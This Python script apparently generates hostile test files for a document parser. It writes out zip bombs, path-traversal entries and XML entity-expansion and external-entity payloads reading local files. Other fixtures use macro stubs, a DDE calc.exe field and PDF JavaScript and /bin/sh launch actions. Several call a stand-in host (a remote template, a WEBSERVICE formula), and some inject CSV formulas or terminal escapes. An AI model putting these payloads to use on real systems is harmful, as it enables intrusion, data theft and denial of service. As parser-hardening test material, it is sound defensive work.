"""Hostile and broken inputs. The small ones are kept in ``files``; run this to make them anew:

    python tests/hostile/hostile_files.py

The large ones (:data:`HEAVY`) are made when a test asks for them.
"""

from __future__ import annotations

import io
import json
import random
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable, Iterator
from pathlib import Path

FILES = Path(__file__).resolve().parent / "files"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
HEAD = ("Ref", "Recommendation", "Progress", "Status")
LINE = ("1", "The service should train its crews.", "Twelve crews were trained by May 2024.", "Green")

# --- Archives -----------------------------------------------------------------------------------------


def zipped(parts: dict[str, bytes], *, stored: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, content in parts.items():
            entry = zipfile.ZipInfo(name, date_time=(1980, 1, 1, 0, 0, 0))
            entry.compress_type = zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED
            archive.writestr(entry, content)
    return out.getvalue()


_TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>{}</Types>'
)
_OVERRIDE = '<Override PartName="/{}" ContentType="application/vnd.openxmlformats-officedocument.{}+xml"/>'
_RELS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
)
_REL = (
    '<Relationship Id="r{}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{}" '
    'Target="{}"{}/>'
)
_W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_X = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


def p(text: str) -> str:
    return f'<w:p><w:r><w:t xml:space="preserve">{text}</w:t></w:r></w:p>'


def table(*rows: tuple[str, ...]) -> str:
    lines = ("".join(f"<w:tc>{p(cell)}</w:tc>" for cell in row) for row in rows)
    return f"<w:tbl>{''.join(f'<w:tr>{line}</w:tr>' for line in lines)}</w:tbl>"


def docx_parts(body: str, *, start: str = "") -> dict[str, bytes]:
    document = f'{start}<w:document xmlns:w="{_W}"><w:body>{body}</w:body></w:document>'
    return {
        "[Content_Types].xml": _TYPES.format(
            _OVERRIDE.format("word/document.xml", "wordprocessingml.document.main")
        ).encode(),
        "_rels/.rels": _RELS.format(_REL.format(1, "officeDocument", "word/document.xml", "")).encode(),
        "word/document.xml": document.encode(),
    }


def docx(body: str = table(HEAD, LINE), **more: bytes) -> bytes:
    return zipped(docx_parts(body) | {name.replace("__", "/"): content for name, content in more.items()})


def cell(text: str) -> str:
    return f'<c t="inlineStr"><is><t xml:space="preserve">{text}</t></is></c>'


def rows(*lines: tuple[str, ...]) -> str:
    return "".join(f"<row>{''.join(map(cell, line))}</row>" for line in lines)


def xlsx_parts(data: str = rows(HEAD, LINE), after: str = "", *, start: str = "") -> dict[str, bytes]:
    sheet = f'{start}<worksheet xmlns="{_X}"><sheetData>{data}</sheetData>{after}</worksheet>'
    over = _OVERRIDE.format("xl/workbook.xml", "spreadsheetml.sheet.main")
    over += _OVERRIDE.format("xl/worksheets/sheet1.xml", "spreadsheetml.worksheet")
    book = (
        f'<workbook xmlns="{_X}" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
        '<sheets><sheet name="Plan" sheetId="1" r:id="r1"/></sheets></workbook>'
    )
    return {
        "[Content_Types].xml": _TYPES.format(over).encode(),
        "_rels/.rels": _RELS.format(_REL.format(1, "officeDocument", "xl/workbook.xml", "")).encode(),
        "xl/workbook.xml": book.encode(),
        "xl/_rels/workbook.xml.rels": _RELS.format(
            _REL.format(1, "worksheet", "worksheets/sheet1.xml", "")
        ).encode(),
        "xl/worksheets/sheet1.xml": sheet.encode(),
    }


def xlsx(data: str = rows(HEAD, LINE), after: str = "") -> bytes:
    return zipped(xlsx_parts(data, after))


def ods(body: str, *, start: str = "") -> bytes:
    spaces = " ".join(
        f'xmlns:{name}="urn:oasis:names:tc:opendocument:xmlns:{name}:1.0"'
        for name in ("office", "table", "text")
    )
    content = (
        f"{start}<office:document-content {spaces}><office:body><office:spreadsheet>"
        f'<table:table table:name="Plan">{body}</table:table>'
        "</office:spreadsheet></office:body></office:document-content>"
    )
    return zipped(
        {
            "mimetype": b"application/vnd.oasis.opendocument.spreadsheet",
            "content.xml": content.encode(),
            "META-INF/manifest.xml": b'<manifest xmlns="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"/>',
        }
    )


def ods_row(*texts: str, more: str = "", repeat: str = "") -> str:
    cells = "".join(
        f'<table:table-cell office:value-type="string"{more}><text:p>{text}</text:p></table:table-cell>'
        for text in texts
    )
    return f"<table:table-row{repeat}>{cells}</table:table-row>"


def patched(archive: bytes, name: bytes, at: int, value: int) -> bytes:
    """An archive with a field of an entry in its directory changed."""
    out = bytearray(archive)
    place = out.rindex(name) - 46 + at
    out[place : place + 4] = struct.pack("<I", value)
    return bytes(out)


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha ha ha ha ha ">'
    + "".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9))
    + "]>"
)
OUTSIDE = '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/hostname">]>'

# --- PDF ----------------------------------------------------------------------------------------------


def pdf(
    content: bytes = b"", *, more: dict[int, bytes] | None = None, page: bytes = b"", packed: bool = False
) -> bytes:
    """A document of one page, with a cross-reference table that is in order."""
    stream = zlib.compress(content, 9) if packed else content
    way = b"/Filter/FlateDecode" if packed else b""
    objects = {
        1: b"<</Type/Catalog/Pages 2 0 R>>",
        2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R"
        b"/Resources<</Font<</F 5 0 R>>>>" + page + b">>",
        4: b"<<" + way + b"/Length %d>>stream\n" % len(stream) + stream + b"\nendstream",
        5: b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    } | (more or {})
    out = bytearray(b"%PDF-1.7\n")
    places = {}
    for number, body in sorted(objects.items()):
        places[number] = len(out)
        out += b"%d 0 obj" % number + body + b"endobj\n"
    start = len(out)
    size = max(objects) + 1
    out += b"xref\n0 %d\n0000000000 65535 f \n" % size
    for number in range(1, size):
        out += b"%010d 00000 n \n" % places.get(number, 0)
    out += b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (size, start)
    return bytes(out)


def said(*lines: str) -> bytes:
    texts = "".join(f"BT /F 10 Tf 40 {800 - 14 * n} Td ({line}) Tj ET\n" for n, line in enumerate(lines))
    return texts.encode("latin-1")


# --- The small ones -----------------------------------------------------------------------------------


def small() -> Iterator[tuple[str, bytes]]:
    good_docx, good_xlsx = docx(), xlsx()
    parts, sheet = docx_parts(table(HEAD, LINE)), xlsx_parts()
    yield "bomb-ratio.docx", zipped(parts | {"word/media/a.bin": bytes(20_000_000)})
    yield (
        "bomb-declared.docx",
        patched(zipped(parts | {"word/b.bin": b"x" * 50}), b"word/b.bin", 24, 61_000_000),
    )
    yield (
        "bomb-lying.docx",
        patched(zipped(parts | {"word/b.bin": bytes(3_000_000)}), b"word/b.bin", 24, 1000),
    )
    yield (
        "bomb-nested.docx",
        zipped(parts | {"word/embeddings/a.zip": zipped({"b.zip": zipped({"c": bytes(9_000_000)})})}),
    )
    yield (
        "overlapping.docx",
        patched(zipped(parts | {"a.bin": b"x" * 90, "b.bin": b"x" * 90}, stored=True), b"b.bin", 42, 0),
    )
    yield "traversal.docx", zipped(parts | {"../../../tmp/evil": b"x"})
    yield "traversal-windows.docx", zipped(parts | {"..\\..\\evil.exe": b"x"})
    yield "absolute.docx", zipped(parts | {"/etc/passwd": b"x"})
    yield "prefixed.docx", b"PK and more before the archive" + good_docx
    yield "comment.docx", good_docx[:-2] + struct.pack("<H", 5) + b"after"
    yield "cut.docx", good_docx[: len(good_docx) * 2 // 3]
    yield "checksum.docx", patched(good_docx, b"word/document.xml", 16, 12345)
    yield "laughs.docx", zipped(docx_parts(p("&j;"), start=LAUGHS))
    yield "outside.docx", zipped(docx_parts(p("&a;"), start=OUTSIDE))
    yield (
        "outside-utf16.docx",
        zipped(parts | {"word/document.xml": (OUTSIDE + "<x>&a;</x>").encode("utf-16")}),
    )
    yield (
        "utf7.docx",
        zipped(
            parts | {"word/document.xml": b'<?xml version="1.0" encoding="UTF-7"?>+ADw-!DOCTYPE x+AD4-<x/>'}
        ),
    )
    yield (
        "odd-name-entities.docx",
        zipped(
            {
                name.replace("word/document.xml", "word/document.bin"): content.replace(
                    b"word/document.xml", b"word/document.bin"
                )
                for name, content in docx_parts(p("&a;"), start=OUTSIDE).items()
            }
            | {"word/document.xml": b"<x/>"}
        ),
    )
    yield (
        "linked-template.docx",
        zipped(
            parts
            | {
                "word/_rels/document.xml.rels": _RELS.format(
                    _REL.format(1, "attachedTemplate", "http://192.0.2.1/evil.dotm", ' TargetMode="External"')
                ).encode()
            }
        ),
    )
    yield "macro.docx", docx(word__vbaProject_bin=OLE + b"Sub AutoOpen")
    yield (
        "fields.docx",
        docx(
            table(
                HEAD,
                (
                    *LINE[:2],
                    "Done in May 2024.</w:t></w:r><w:r><w:instrText>DDEAUTO c:\\\\calc.exe</w:instrText></w:r><w:r><w:t>",
                    "Green",
                ),
            )
        ),
    )
    yield "deep.docx", docx("<w:sdt><w:sdtContent>" * 200 + p("x") + "</w:sdtContent></w:sdt>" * 200)
    yield (
        "wide-spans.docx",
        docx(table(HEAD, LINE).replace("<w:tc>", '<w:tc><w:tcPr><w:gridSpan w:val="9999"/></w:tcPr>')),
    )
    yield (
        "controls.docx",
        docx(table(HEAD, (*LINE[:2], "Done\u202e\u200b in \u2066May\u2069 2024.", "Green"))),
    )
    yield "wrong-root.docx", zipped(parts | {"word/document.xml": b"<x/>"})
    yield "no-types.docx", zipped({name: part for name, part in parts.items() if "Types" not in name})
    yield "cut-xml.docx", zipped(parts | {"word/document.xml": parts["word/document.xml"][:-60]})
    yield (
        "bad-utf8.docx",
        zipped(parts | {"word/document.xml": parts["word/document.xml"].replace(b"Twelve", b"\xff\xfe\xc3")}),
    )
    yield "is-a-pdf.docx", pdf(said("x"))
    yield "is-old.docx", OLE + bytes(600)
    yield "locked.docx", OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le")

    yield (
        "far-corner.xlsx",
        xlsx(
            '<row r="1"><c r="A1" t="inlineStr"><is><t>update</t></is></c></row>'
            '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        ),
    )
    yield (
        "far-corner-plan.xlsx",
        xlsx(rows(HEAD, LINE) + '<row r="900000"><c r="ZZZ900000" t="inlineStr"><is><t>x</t></is></c></row>'),
    )
    yield "beyond-the-sheet.xlsx", xlsx('<row r="99999999"><c r="AAAA99999999"><v>1</v></c></row>')
    yield "merged-all.xlsx", xlsx(after='<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')
    yield "laughs.xlsx", zipped(xlsx_parts(rows(HEAD, ("&j;",) * 4), start=LAUGHS))
    yield "outside.xlsx", zipped(xlsx_parts(rows(HEAD, ("&a;",) * 4), start=OUTSIDE))
    yield (
        "odd-name-entities.xlsx",
        zipped(
            {
                name.replace("sheet1.xml", "sheet1.bin"): content.replace(b"sheet1.xml", b"sheet1.bin")
                for name, content in xlsx_parts(rows(HEAD, ("&a;",) * 4), start=OUTSIDE).items()
            }
        ),
    )
    yield "macro.xlsx", zipped(sheet | {"xl/vbaProject.bin": OLE + b"Sub Workbook_Open"})
    yield (
        "links.xlsx",
        zipped(
            sheet
            | {
                "xl/externalLinks/externalLink1.xml": f'<externalLink xmlns="{_X}"/>'.encode(),
                "xl/externalLinks/_rels/externalLink1.xml.rels": _RELS.format(
                    _REL.format(1, "externalLinkPath", "file:///etc/passwd", ' TargetMode="External"')
                ).encode(),
            }
        ),
    )
    yield (
        "formula.xlsx",
        xlsx(
            rows(HEAD)
            + f"<row>{cell('1')}{cell(LINE[1])}"
            + '<c t="str"><f>WEBSERVICE("http://192.0.2.1/")</f><v>Twelve crews were trained.</v></c></row>'
        ),
    )
    yield (
        "dates.xlsx",
        xlsx(rows(HEAD) + f'<row>{cell("1")}{cell(LINE[1])}<c t="d"><v>99999-99-99</v></c></row>'),
    )
    yield (
        "numbers.xlsx",
        xlsx(rows(HEAD) + f"<row>{cell('1')}{cell(LINE[1])}<c><v>1e999</v></c><c><v>x</v></c></row>"),
    )
    yield "shared-missing.xlsx", xlsx('<row><c t="s"><v>99999</v></c></row>')
    yield "cut.xlsx", good_xlsx[: len(good_xlsx) // 2]
    yield (
        "no-sheets.xlsx",
        zipped(sheet | {"xl/workbook.xml": f'<workbook xmlns="{_X}"><sheets/></workbook>'.encode()}),
    )
    yield "missing-sheet.xlsx", zipped({name: part for name, part in sheet.items() if "sheet1" not in name})
    yield "bomb-ratio.xlsx", zipped(sheet | {"xl/media/a.bin": bytes(20_000_000)})
    yield "is-csv.xlsx", b"row_id,update\n1,Twelve crews were trained.\n"

    yield "laughs.ods", ods(ods_row("&j;"), start=LAUGHS)
    yield (
        "repeated.ods",
        ods(
            ods_row(
                "x",
                more=' table:number-columns-repeated="16384"',
                repeat=' table:number-rows-repeated="1048576"',
            )
        ),
    )
    yield (
        "repeated-text.ods",
        ods(ods_row(*HEAD) + ods_row(*LINE).replace("<text:p>", '<text:p><text:s text:c="999999999"/>')),
    )
    yield "cut.ods", ods(ods_row(*HEAD) + ods_row(*LINE))[:300]
    yield "no-content.ods", zipped({"mimetype": b"application/vnd.oasis.opendocument.spreadsheet"})
    yield "broken.xls", OLE + bytes(range(256)) * 8
    yield "header-only.xls", OLE
    yield "text.xls", b"Ref\tProgress\n1\tDone\n"

    yield "bomb-stream.pdf", pdf(b"q Q " * 4_000_000, packed=True)
    yield "loop-pages.pdf", pdf(said("x"), more={2: b"<</Type/Pages/Kids[2 0 R 2 0 R 3 0 R]/Count 3>>"})
    yield (
        "loop-form.pdf",
        pdf(
            b"/X Do",
            page=b"/Resources<</XObject<</X 6 0 R>>>>",
            more={
                6: b"<</Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>/Length 5>>stream\n/X Do\nendstream"
            },
        ),
    )
    yield "count-lies.pdf", pdf(said("x"), more={2: b"<</Type/Pages/Kids[3 0 R]/Count 2000000000>>"})
    yield (
        "script.pdf",
        pdf(
            said("x"),
            more={
                1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.launchURL('http://192.0.2.1'))>>>>"
            },
        ),
    )
    yield (
        "launch.pdf",
        pdf(said("x"), more={1: b"<</Type/Catalog/Pages 2 0 R/OpenAction<</S/Launch/F(/bin/sh)>>>>"}),
    )
    yield "huge-page.pdf", pdf(said("Progress"), page=b"/UserUnit 1e9/CropBox[-1e30 -1e30 1e30 1e30]")
    yield "nan-text.pdf", pdf(b"BT /F 1e38 Tf 1e38 0 0 1e38 1e38 -1e38 Tm (Progress) Tj ET 1e38 0 m 5 5 l S")
    yield "deep-arrays.pdf", pdf(b"[" * 100_000 + b"] TJ " + said("x"), packed=True)
    yield (
        "deep-catalogue.pdf",
        pdf(said("x"), more={1: b"<</Type/Catalog/Pages 2 0 R/A" + b"[" * 3000 + b"]" * 3000 + b">>"}),
    )
    yield "cut.pdf", pdf(said(*HEAD))[:200]
    yield "no-xref.pdf", b"%PDF-1.7\n%%EOF"
    yield (
        "locked.pdf",
        pdf(said("x")).replace(
            b"/Root 1 0 R",
            b"/Root 1 0 R/Encrypt<</Filter/Standard/V 1/R 2/O(%s)/U(%s)/P -4>>" % (b"o" * 32, b"u" * 32),
        ),
    )
    yield "scan.pdf", pdf(b"q 595 0 0 842 0 0 cm BI /W 1 /H 1 /CS /G /BPC 8 ID x EI Q")
    yield "controls.pdf", pdf(said("Progress \\000\\001\\033[2J", "x"))

    yield "deep.html", b"<div>" * 3000 + b"x"
    yield "deep-tables.html", b"<table><tr><td>" * 1000 + b"x"
    yield "spans.html", b"<table><tr>" + b"<td colspan=99999999 rowspan=99999999>x" * 200 + b"<tr><td>y" * 200
    yield "laughs.html", (LAUGHS + "<html><p>&j;</p></html>").encode()
    yield (
        "outside.html",
        b"<link rel=stylesheet href=file:///etc/passwd><iframe src=http://192.0.2.1/></iframe><p>x",
    )
    yield (
        "script.html",
        (
            "<table><tr>" + "".join(f"<th>{name}</th>" for name in HEAD) + "</tr><tr>"
            "<td>1<td>The service should train.<td>Crews were trained.<script>alert(1)</script>"
            '<img src=x onerror="alert(1)"><td>Green</tr></table>'
        ).encode(),
    )
    yield "unclosed.html", b"<table><tr><td <td <td <!-- <td> <![CDATA[ <script>" * 200
    yield "entities.html", b"<p>&#0;&#x110000;&#xd800;&#99999999999999999999;&nosuch;&amp" * 50
    yield "attributes.html", b"<p " + b" ".join(b"a%d=1" % n for n in range(5000)) + b">x"
    yield (
        "styles.html",
        b"<style>"
        + b"a{" * 5000
        + b"}" * 5000
        + b"/*" * 5000
        + b"</style><p style='"
        + b"background:" * 5000
        + b"'>x",
    )
    yield "encoding.html", b"<meta charset=rot13><meta charset=idna><p>\xff\xfe\x00x"
    yield "encoding-bz2.html", b"<meta charset=bz2><p>x"
    yield "binary.html", bytes(range(256)) * 8
    yield "many-bodies.html", b"<html><body>" * 500 + b"<head><title>x" * 500

    yield "null.txt", b"Progress\x00\x00"
    yield "utf16-half.txt", b"\xff\xfeP\x00r"[:-1]
    yield "controls.txt", "\x1b[2J\x1b]0;owned\x07 Progress\u202e\u2066 1\t2\t3\n".encode() * 20
    yield "tabs.txt", (b"\t" * 300 + b"\n") * 300
    yield "no-words.txt", b"\n\n \t\t\n  | | |\n" * 200
    yield "pipes.txt", b"|" * 50_000
    yield "markup.txt", b"1\t" + b"<table><tr><td>" * 2000 + b"\tx\n" + b"<" * 5000 + b"\n" + b"**" * 5000
    yield "latin.txt", b"Progress \x81\x8d\x90"

    yield "quotes.csv", b'row_id,update\n1,"Twelve crews\n' + b'2,"x",""y\n' * 50
    yield "ragged.csv", b"row_id,update\n1,a,b,c,d\n2\n3,x\n"
    yield "no-update.csv", b"a,b,c\n1,2,3\n"
    yield "same-ids.csv", b"row_id,update\n1,Done.\n1,Done again.\n"
    yield "same-columns.csv", b"row_id,update,update\n1,Done.,Done.\n"
    yield "null.csv", b"row_id,update\n1,\x00\x00\x00\n"
    yield "latin.csv", b"row_id,update\n1,\x81\x8d\x90\n"
    yield "formulas.csv", b'row_id,update\n1,"=HYPERLINK(""http://192.0.2.1"")"\n2,@SUM(1)\n3,\'=x\n'
    yield "escapes.csv", "row_id,update\n\x1b[2J,\x1b]0;owned\x07 done\n2,\u202edone\n3,\n".encode()
    yield "scores.csv", b"row_id,update,novelty,stale_why,status_probabilities\n1,Done.,1e999,[1],{\n"
    yield "dates.csv", b"row_id,update,as_of,due_date\n1,Done.,99999-99-99,0000-00-00\n2,Done.,2024-13,-1\n"
    yield "cr-only.csv", b"row_id,update\r1,Done.\r2,Done.\r"
    yield "utf16.csv", "row_id,update\n1,Done.\n".encode("utf-16")[:-1]
    yield "empty.csv", b""
    yield "blank.tsv", b"\n\t\t\n \n"
    yield "quotes.tsv", b'row_id\tupdate\n1\t"Done.\n'
    yield "header-only.tsv", b"row_id\tupdate\n"

    yield "deep.jsonl", b'{"update":' + b"[" * 90_000 + b"]" * 90_000 + b"}\n"
    yield "deep-some.jsonl", b'{"update":"x","a":' + b"[" * 400 + b"]" * 400 + b"}\n"
    yield "digits.jsonl", b'{"update":"x","n":' + b"9" * 5000 + b"}\n"
    yield "big-number.jsonl", b'{"update":"x","n":' + b"9" * 400 + b',"novelty":1e999,"evidence_score":NaN}\n'
    yield (
        "kinds.jsonl",
        b'{"update":["a",{"b":1}],"row_id":{"x":1},"stale":5,"links":"x","status_probabilities":[1],"novelty":"high"}\n',
    )
    yield "not-objects.jsonl", b'1\n"x"\n[1]\nnull\n'
    yield "surrogates.jsonl", b'{"update":"\\ud800 done \\udfff","row_id":"\\ud800"}\n'
    yield "cut.jsonl", b'{"update":"Done."}\n{"update":"Do'
    yield "bad-bytes.jsonl", b'{"update":"\xff\xfe"}\n'
    yield "control-keys.jsonl", b'{"update":"Done.","\\u0000":"\\u0000","":1,"a\\nb":"\\u001b[2J"}\n'

    yield "cut.parquet", b"PAR1" + bytes(40) + b"PAR1"
    yield "header.parquet", b"PAR1"
    yield "footer.parquet", b"PAR1" + b"\xff" * 60 + struct.pack("<I", 2**31 - 1) + b"PAR1"
    yield "unknown.odt", zipped({"content.xml": b"<x/>"})
    yield "no-ending", b"Progress"
    yield "slips.zip", zipped({"../../evil.txt": b"Progress", "/etc/evil.txt": b"Progress"})


# --- The large ones -----------------------------------------------------------------------------------

WORDS = "The crews of the service were trained in the use of the new breathing sets by May 2024. "


def varied(size: int) -> str:
    """A text that does not shrink to nothing when it is packed, the same every time."""
    dice = random.Random(1)
    return " ".join(f"{dice.getrandbits(40):x}" for _ in range(size // 10 + 1))[:size]


def _csv_rows(count: int) -> bytes:
    lines = (f"{n},Area {n},{WORDS}{n},On track\n" for n in range(count))
    return ("row_id,recommendation,update,declared\n" + "".join(lines)).encode()


def _plan_rows(count: int, mark: str = ",") -> bytes:
    lines = (
        mark.join((str(n), f"The service should do thing {n}.", WORDS, "Green")) + "\n" for n in range(count)
    )
    return (mark.join(HEAD) + "\n" + "".join(lines)).encode()


def _parquet(build: Callable[[], object]) -> bytes:
    import pyarrow.parquet

    out = io.BytesIO()
    pyarrow.parquet.write_table(build(), out, compression="zstd")
    return out.getvalue()


def _parquet_of_one_text() -> object:
    import pyarrow

    words = pyarrow.array(["x" * 190_000])
    return pyarrow.table({"update": pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 400_000), words)})


def _parquet_of_rows() -> object:
    import pyarrow

    return pyarrow.table({"update": pyarrow.array(["done"]).take(pyarrow.array([0] * 3_000_000))})


def styled(data: str, after: str) -> bytes:
    """A workbook with one format for conditions to give."""
    parts = xlsx_parts(data, after)
    styles = (
        f'<styleSheet xmlns="{_X}"><fonts><font/></fonts><fills><fill><patternFill/></fill></fills><borders><border/></borders>'
        '<cellStyleXfs><xf/></cellStyleXfs><cellXfs><xf/></cellXfs><dxfs count="1"><dxf><fill><patternFill><bgColor rgb="FF00B050"/></patternFill>'
        "</fill></dxf></dxfs></styleSheet>"
    )
    types = _OVERRIDE.format("xl/styles.xml", "spreadsheetml.styles") + "</Types>"
    rels = _REL.format(2, "styles", "styles.xml", "") + "</Relationships>"
    parts["xl/styles.xml"] = styles.encode()
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(b"</Types>", types.encode())
    name = "xl/_rels/workbook.xml.rels"
    parts[name] = parts[name].replace(b"</Relationships>", rels.encode())
    return zipped(parts)


HEAVY: dict[str, Callable[[], bytes]] = {
    "rows-200000.csv": lambda: _csv_rows(200_000),
    "rows-200000.jsonl": lambda: b"".join(
        json.dumps({"row_id": str(n), "update": WORDS + str(n)}).encode() + b"\n" for n in range(200_000)
    ),
    "rows-of-one-action.csv": lambda: b"action_id,update\n" + b"1,Twelve crews were trained.\n" * 200_000,
    "rows-of-a-plan.csv": lambda: _plan_rows(200_000),
    "rows-below-the-limit.csv": lambda: _plan_rows(38_000),
    "rows-of-a-plan.txt": lambda: _plan_rows(100_000, "\t"),
    "rows-too-many.csv": lambda: b"update\n" + b"done\n" * 2_000_000,
    "columns-a-million.csv": lambda: (
        b",".join(b"c%d" % n for n in range(1_000_000)) + b"\n" + b"," * 999_999 + b"\n"
    ),
    "columns-a-million.tsv": lambda: b"update" + b"\t" * 1_000_000 + b"\nx\n",
    "columns-a-million.txt": lambda: b"\t".join([b"x"] * 1_000_000) + b"\n",
    "columns-a-million.jsonl": lambda: json.dumps({f"c{n}": n for n in range(1_000_000)}).encode() + b"\n",
    "cell-10mb.csv": lambda: b'row_id,update\n1,"' + b"x" * 10_000_000 + b'"\n',
    "cell-10mb.jsonl": lambda: b'{"update":"' + b"x" * 10_000_000 + b'"}\n',
    "cell-10mb.txt": lambda: b"1\tRecommendation\t" + b"x " * 5_000_000 + b"\n",
    "cell-10mb.html": lambda: b"<table><tr><td>1<td>" + b"x" * 10_000_000 + b"<td>y</table>",
    "cell-10mb.docx": lambda: docx(table(HEAD, (*LINE[:2], varied(9_000_000), "Green"))),
    "cell-10mb.xlsx": lambda: xlsx(rows(HEAD, (*LINE[:2], varied(10_000_000), "Green"))),
    "cell-10mb.ods": lambda: ods(ods_row(*HEAD) + ods_row(*LINE[:2], varied(10_000_000), "Green")),
    "cell-10mb.pdf": lambda: pdf(b"BT /F 10 Tf 40 40 Td (" + b"x" * 10_000_000 + b") Tj ET", packed=True),
    "cells-below-the-limit.txt": lambda: b"\n".join(
        b"%d\tThe service should train.\t" % n + b"a " * 99_000 + b"\tGreen" for n in range(24)
    ),
    "elements.html": lambda: b"<b>" * 8_000_000,
    "elements.docx": lambda: zipped(
        docx_parts("".join(f"<w:p><w:r><w:t>{n}</w:t></w:r></w:p>" for n in range(600_000)))
    ),
    "elements-below-the-limit.html": lambda: b"<table>" + b"<tr><td>a<td>b<td>c" * 140_000,
    "comments.html": lambda: b"<!--" * 4_000_000 + b"<p>x",
    "rows.docx": lambda: docx(
        table(HEAD, *((str(n), f"Do thing {n}.", WORDS, "Green") for n in range(15_000)))
    ),
    "rows.xlsx": lambda: zipped(
        xlsx_parts(
            rows(
                HEAD, *((str(n), f"Do thing {n}.", f"{WORDS}{n * n % 9973}", "Green") for n in range(70_000))
            )
        )
    ),
    "cells-empty.xlsx": lambda: xlsx(rows(HEAD, LINE) + "<row>" + "<c/>" * 3_000_000 + "</row>"),
    "corner.xlsx": lambda: xlsx(
        rows(HEAD, LINE) + '<row r="200000"><c r="ZZ200000" t="inlineStr"><is><t>x</t></is></c></row>'
    ),
    "merges.xlsx": lambda: xlsx(
        rows(HEAD, *((str(n), f"Do thing {n}.", "Done.", "Green") for n in range(60_000))),
        "<mergeCells>"
        + "".join(f'<mergeCell ref="F{n}:G{n + 1}"/>' for n in range(1, 60_000, 2))
        + "</mergeCells>",
    ),
    "conditions.xlsx": lambda: styled(
        rows(HEAD, *((str(n), f"Do thing {n}.", "Done.", "Green") for n in range(20_000))),
        "".join(
            f'<conditionalFormatting sqref="A1:D20001"><cfRule type="cellIs" priority="{n}" operator="equal" dxfId="0">'
            f"<formula>{n}</formula></cfRule></conditionalFormatting>"
            for n in range(20_000)
        ),
    ),
    "strings.xlsx": lambda: zipped(
        xlsx_parts()
        | {
            "xl/sharedStrings.xml": f'<sst xmlns="{_X}">'.encode()
            + b"".join(b"<si><t>%d</t></si>" % n for n in range(900_000))
            + b"</sst>",
            "[Content_Types].xml": xlsx_parts()["[Content_Types].xml"].replace(
                b"</Types>",
                _OVERRIDE.format("xl/sharedStrings.xml", "spreadsheetml.sharedStrings").encode()
                + b"</Types>",
            ),
            "xl/_rels/workbook.xml.rels": xlsx_parts()["xl/_rels/workbook.xml.rels"].replace(
                b"</Rel", _REL.format(2, "sharedStrings", "sharedStrings.xml", "").encode() + b"</Rel", 1
            ),
        }
    ),
    "repeats-below-the-limit.ods": lambda: ods(
        ods_row(*HEAD)
        + ods_row(
            "x", more=' table:number-columns-repeated="900"', repeat=' table:number-rows-repeated="400"'
        )
    ),
    "one-text.parquet": lambda: _parquet(_parquet_of_one_text),
    "rows-too-many.parquet": lambda: _parquet(_parquet_of_rows),
    "shapes.pdf": lambda: pdf(b"0 0 1 1 re f " * 2_000_000, packed=True),
    "letters.pdf": lambda: pdf(
        b"".join(
            b"BT /F 6 Tf %d %d Td (%s) Tj ET\n" % (n % 90 * 6, n // 90 % 140 * 6, b"abc")
            for n in range(30_000)
        ),
        packed=True,
    ),
    "many-pages.pdf": lambda: pdf(
        said("x"), more={2: b"<</Type/Pages/Kids[" + b"3 0 R " * 300_000 + b"]/Count 300000>>"}
    ),
    "bomb.docx": lambda: zipped(docx_parts(p("x")) | {"word/media/x.bin": bytes(500_000_000)}),
    "bomb-of-text.docx": lambda: zipped(docx_parts(p(" " * 50_000_000))),
    "many-entries.docx": lambda: zipped(docx_parts(p("x")) | {f"a/{n}": b"" for n in range(60_000)}),
}


if __name__ == "__main__":
    FILES.mkdir(exist_ok=True)
    for old in FILES.iterdir():
        old.unlink()
    total = 0
    for name, content in small():
        (FILES / name).write_bytes(content)
        total += len(content)
    sys.stdout.write(f"{len(list(FILES.iterdir()))} files, {total:,} bytes\n")
